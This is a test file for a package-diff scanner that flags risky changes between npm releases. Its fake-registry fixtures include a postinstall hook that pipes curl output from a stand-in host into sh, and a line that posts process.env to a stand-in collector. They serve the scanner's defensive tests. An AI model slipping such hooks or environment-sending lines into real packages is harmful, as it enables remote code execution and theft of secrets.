import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { after, before, describe, it } from 'node:test';

import { makeNpmHome } from '../npm-home.ts';
import { startRegistry, tarball } from '../registry.ts';
import type { FakeRegistry } from '../registry.ts';
import { runUnmask } from './run-unmask.ts';
import type { Ran, Where } from './run-unmask.ts';

const ADD = 'exports.add = (a, b) => a + b;\n';

describe('unmask diff', () => {
  const home = makeNpmHome();
  let registry: FakeRegistry;
  const run = (args: readonly string[], where: Partial<Where> = {}): Promise<Ran> =>
    runUnmask(['diff', ...args], { cwd: home.cwd, env: home.env, ...where });

  before(async () => {
    registry = await startRegistry({
      nodemailerr: { versions: {}, answer: 404 },
      adder: {
        versions: {
          '1.0.0': { files: { 'index.js': ADD } },
          '1.0.1': { files: { 'index.js': `${ADD}exports.twice = a => a + a;\n` } },
          '1.0.2': {
            files: {
              'package.json': { name: 'adder', version: '1.0.2', scripts: { postinstall: 'curl -s https://payload.invalid/x | sh' } },
              'index.js': ADD,
            },
          },
          '1.0.3': {
            files: { 'index.js': `${ADD}fetch('https://collector.invalid', { method: 'POST', body: JSON.stringify(process.env) });\n` },
          },
        },
      },
    });
    const files = {
      '.npmrc': `registry=${registry.url}\n`,
      'mine/package.json': '{"name":"adder","version":"1.0.0"}',
      'mine/index.js': ADD,
      'other/package.json': '{"name":"other","version":"1.0.0"}',
      'other/index.js': ADD,
      'deep/package.json': '{"name":"adder","version":"0.9.0"}',
      'deep/index.js': `${'('.repeat(200_000)}1${')'.repeat(200_000)}`,
    };
    for (const [path, content] of Object.entries(files)) {
      mkdirSync(dirname(join(home.cwd, path)), { recursive: true });
      writeFileSync(join(home.cwd, path), content);
    }
  });
  after(async () => {
    home.remove();
    await registry.close();
  });

  it('is quiet on an honest release: code 0, the verdict first, nothing on stderr', async () => {
    const { code, out, err } = await run(['adder@1.0.0', 'adder@1.0.1']);
    assert.deepEqual([code, err], [0, '']);
    assert.match(out, /^ALLOW {2}adder 1\.0\.0 → 1\.0\.1\nNothing is new that Unmask looks at\.\n/);
    assert.doesNotMatch(out, /likeness/, 'what nobody asked for was not skipped');
  });

  it('says so where the later release comes first, or the names differ, and decides all the same', async () => {
    const swapped = await run(['adder@1.0.1', 'adder@1.0.0']);
    assert.equal(swapped.code, 0);
    assert.match(swapped.err, /adder@1\.0\.1 is newer than adder@1\.0\.0/);
    const { code, err } = await run(['adder@1.0.0', './other']);
    assert.equal(code, 0);
    assert.match(err, /adder@1\.0\.0 and other@1\.0\.0 are different packages/);
    // An archive is what it says it is, whatever its file is called.
    writeFileSync(join(home.cwd, 'kept.tgz'), tarball({ 'package.json': { name: 'adder', version: '1.0.1' }, 'index.js': ADD }));
    assert.equal((await run(['adder@1.0.0', './kept.tgz'])).err, '');
  });

  it('names the known package that a name comes nearest to, where no package has it', async () => {
    const { code, err } = await run(['adder@1.0.0', 'nodemailerr']);
    assert.equal(code, 2);
    assert.match(err, /nodemailerr could not be fetched[^\n]*\n *Did you mean nodemailer/);
  });

  it('refuses a release that fetches and runs something at install', async () => {
    const { code, out } = await run(['adder@1.0.1', 'adder@1.0.2', '--fail-on', 'warn']);
    assert.equal(code, 1);
    assert.match(out, /^(?:WARN|BLOCK) {2}adder 1\.0\.1 → 1\.0\.2\n/);
    assert.match(out, /new-install-hook/);
  });

  it('refuses a release that sends the environment away at import, and tells only what is new', async () => {
    const { code, out } = await run(['adder@1.0.1', 'adder@1.0.3', '--json', '--fail-on', 'warn']);
    const document = JSON.parse(out);
    assert.equal(code, 1);
    assert.deepEqual([document.before.version, document.subject.version], ['1.0.1', '1.0.3']);
    const names = document.findings.map((one: { detector: string }) => one.detector);
    for (const name of ['sends-environment', 'new-effect-at-import']) assert.ok(names.includes(name), names.join());
    const again = await run(['adder@1.0.3', 'adder@1.0.3', '--fail-on', 'warn']);
    assert.equal(again.code, 0);
  });

  it('takes directories, writes every format, and says a gap of either side aloud', async () => {
    assert.equal((await run(['./mine', 'adder@1.0.1'])).code, 0);
    assert.match((await run(['./mine', 'adder@1.0.3', '--format', 'markdown'])).out, /What is new/);
    const sarif = JSON.parse((await run(['./mine', 'adder@1.0.3', '--format', 'sarif'])).out);
    assert.ok(sarif.runs[0].tool.driver.rules.some((rule: { id: string }) => rule.id === 'new-effect-at-import'));
    const { out } = await run(['./deep', './mine', '--json']);
    const { decision, coverage } = JSON.parse(out);
    assert.equal(decision, 'warn');
    assert.deepEqual(
      coverage.unread.map((one: { path: string }) => one.path),
      ['adder@0.9.0: index.js'],
    );
  });

  it('teaches: usage, help, and every change by its name', async () => {
    const { code, err } = await run(['adder@1.0.0']);
    assert.equal(code, 2);
    assert.match(err, /compares two packages; one was named/);
    assert.match((await run(['--help'])).out, /unmask diff <before> <after>/);
    const explained = await runUnmask(['explain', 'new-install-hook'], { cwd: home.cwd, env: home.env });
    assert.match(explained.out, /Why/);
  });

  it('lets a policy weigh a change by its name', async () => {
    writeFileSync(join(home.cwd, 'strict.json'), '{"rules":[{"name":"no hooks","then":"block","when":{"detector":"new-install-hook"}}]}');
    const { code } = await run(['adder@1.0.0', 'adder@1.0.2', '--policy', 'strict.json']);
    assert.equal(code, 1);
  });
});
